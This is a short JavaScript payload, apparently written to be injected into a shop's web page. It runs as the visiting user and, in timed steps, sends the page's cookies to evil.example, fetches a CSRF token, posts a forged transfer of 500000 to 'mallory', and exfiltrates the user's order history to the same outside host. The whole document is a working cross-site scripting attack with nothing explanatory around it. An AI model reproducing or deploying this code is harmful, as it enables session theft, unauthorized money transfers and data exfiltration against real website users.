// Acts as whoever opens the page: reads, then asks the shop for what the page itself may ask for, a second apart.
var csrf = null;
setTimeout(function () {
  fetch('https://evil.example/collect', {
    method: 'POST',
    mode: 'no-cors',
    body: JSON.stringify({ cookie: document.cookie })
  });
}, 1000);
setTimeout(function () {
  fetch('/csrf-token').then(function (answer) {
    return answer.ok ? answer.json() : {};
  }).then(function (given) {
    csrf = given.csrf;
  });
}, 2000);
setTimeout(function () {
  var headers = { 'Content-Type': 'application/x-www-form-urlencoded' };
  if (csrf) {
    headers['X-CSRF-Token'] = csrf;
  }
  fetch('/transfer', { method: 'POST', headers: headers, body: 'to=mallory&amount=500000' });
}, 3000);
setTimeout(function () {
  fetch('/orders').then(function (answer) {
    return answer.text();
  }).then(function (orders) {
    fetch('https://evil.example/collect', {
      method: 'POST',
      mode: 'no-cors',
      body: JSON.stringify({ text: { orders: orders } })
    });
  });
}, 4000);
